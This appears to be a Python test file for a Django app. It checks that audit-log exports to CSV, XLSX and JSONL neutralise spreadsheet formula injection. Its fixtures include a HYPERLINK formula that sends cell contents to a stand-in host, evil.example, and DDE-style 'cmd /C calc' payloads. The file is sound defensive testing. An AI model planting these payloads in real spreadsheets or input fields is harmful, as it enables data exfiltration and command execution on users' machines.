"""Spreadsheet formula injection: text from requests (reveal reasons, filter values) that a
spreadsheet would run as a formula is exported as text in every format a spreadsheet opens."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from openpyxl import load_workbook

from governance.spreadsheet import formula_safe
from oversight.exporters import exporter_get
from oversight.exporters.base import Column, ReportTable

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
REASONS = [PAYLOAD, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
# The API trims surrounding whitespace; other callers of the exporters may not.
SPACED = ["\t=1+1", "\r=1+1", " =1+1", "\n@A1"]


def _reveal_with_reasons(api_client, role_users, profile):
    api_client.force_authenticate(role_users["support_agent"])
    for reason in REASONS:
        response = api_client.post(f"/api/v1/profiles/{profile.pk}/reveal/",
                                   {"fields": ["identities"], "reason": reason}, format="json")
        assert response.status_code == 200, response.content
    api_client.force_authenticate(role_users["dpo"])


def _body(response) -> bytes:
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_csv_export_prefixes_formula_text_with_an_apostrophe(api_client, role_users, audited_profiles):
    # given
    profile = audited_profiles["jp"][0]
    _reveal_with_reasons(api_client, role_users, profile)
    # when
    body = _body(api_client.get(f"/api/v1/audit/reports/access_log/csv?profile={profile.pk}"))
    # then
    reasons = [r["Reason"] for r in csv.DictReader(io.StringIO(body.decode("utf-8-sig")))]
    for reason in REASONS:
        assert "'" + reason in reasons
    assert not any(r[:1] in ("=", "+", "-", "@", "\t", "\r") or r.lstrip()[:1] in ("=", "@") for r in reasons)


def test_xlsx_export_writes_formula_text_as_strings_never_formulas(api_client, role_users, audited_profiles):
    # given: the filter value itself is formula text too (it reaches the "About" sheet)
    profile = audited_profiles["jp"][0]
    _reveal_with_reasons(api_client, role_users, profile)
    actor = role_users["support_agent"].username
    # when
    body = _body(api_client.get(
        f"/api/v1/audit/reports/access_log/xlsx?profile={profile.pk}&actor={actor}"))
    hostile_filter = _body(api_client.get("/api/v1/audit/reports/access_log/xlsx",
                                          {"actor": PAYLOAD}))
    # then: no formula element anywhere in the workbook, and the text reads back unchanged
    for document in (body, hostile_filter):
        with zipfile.ZipFile(io.BytesIO(document)) as archive:
            for name in archive.namelist():
                assert b"<f>" not in archive.read(name), name
    workbook = load_workbook(io.BytesIO(body))
    sheet = workbook.worksheets[0]
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    reason_column = header.index("Reason")
    cells = [row[reason_column] for row in sheet.iter_rows(min_row=2)]
    by_value = {c.value: c for c in cells}
    for reason in REASONS:
        cell = by_value[reason]
        assert cell.data_type == "s" and cell.quotePrefix, reason
    about = load_workbook(io.BytesIO(hostile_filter))["About"]
    meta = {row[0].value: row[1] for row in about.iter_rows()}
    assert meta["actor"].value == PAYLOAD and meta["actor"].data_type == "s" and meta["actor"].quotePrefix


def test_jsonl_keeps_the_text_exactly(api_client, role_users, audited_profiles):
    profile = audited_profiles["jp"][0]
    _reveal_with_reasons(api_client, role_users, profile)
    body = _body(api_client.get(f"/api/v1/audit/reports/access_log/jsonl?profile={profile.pk}"))
    reasons = {json.loads(line)["reason"] for line in body.decode().splitlines()}
    assert set(REASONS) <= reasons  # JSON is data, not a spreadsheet: nothing to escape


def test_exporters_neutralise_text_after_leading_whitespace():
    def table():
        return ReportTable(title="t", columns=[Column("reason", "=Reason"), Column("n", "n")],
                           rows=iter([(text, 1) for text in SPACED]), meta=[("=label", "@value")],
                           summary=[("+sum", "-A1")])

    csv_body = b"".join(exporter_get("csv").stream(table())).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(csv_body)))
    assert rows[0] == ["'=Reason", "n"]
    assert [r[0] for r in rows[1:]] == ["'" + text for text in SPACED]
    xlsx_body = b"".join(exporter_get("xlsx").stream(table()))
    with zipfile.ZipFile(io.BytesIO(xlsx_body)) as archive:
        assert not any(b"<f>" in archive.read(name) for name in archive.namelist())
    workbook = load_workbook(io.BytesIO(xlsx_body))
    sheet = workbook.worksheets[0]
    values = [(c.value, c.data_type, bool(c.quotePrefix)) for c in sheet["A"]]
    assert values[0] == ("=Reason", "s", True)
    assert [v[1:] for v in values[1:]] == [("s", True)] * len(SPACED)
    about = [[(c.value, c.data_type, bool(c.quotePrefix)) for c in row] for row in workbook["About"].iter_rows()]
    assert about == [[("=label", "s", True), ("@value", "s", True)], [("+sum", "s", True), ("-A1", "s", True)]]


@pytest.mark.parametrize(("text", "expected"), [
    ("=1+1", "'=1+1"), ("+A1", "'+A1"), ("-A1", "'-A1"), ("@A1", "'@A1"), ("\t1", "'\t1"),
    ("\r1", "'\r1"), ("  =1", "'  =1"), ("\n+A1", "'\n+A1"),
    ("-5", "-5"), ("+81 3-1234-5678", "+81 3-1234-5678"), ("-", "-"), ("", ""), (" ", " "),
    ("plain", "plain"), ("a=b", "a=b"), ("電話 =1", "電話 =1"),
])
def test_formula_safe(text, expected):
    assert formula_safe(text) == expected
